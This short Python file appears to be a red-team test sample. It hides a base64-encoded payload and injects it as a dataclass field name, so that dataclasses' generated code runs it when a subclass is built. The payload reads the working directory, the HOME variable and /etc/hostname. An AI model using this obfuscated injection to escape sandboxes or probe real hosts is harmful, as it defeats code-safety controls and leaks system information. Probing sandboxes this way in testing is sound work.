# family: red team, round 52a (functools.reduce with setattr over fields)
import base64
import dataclasses
import operator
import functools

CODE = "eCxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclasses.dataclass
class A:
    x: int = 0


def main():
    functools.reduce(lambda acc, f: setattr(f, "name", base64.b64decode(CODE).decode()) or acc, dataclasses.fields(A), 0)

    @dataclasses.dataclass(init=False, repr=False)
    class B(A):
        pass

    print(B() == B())


main()
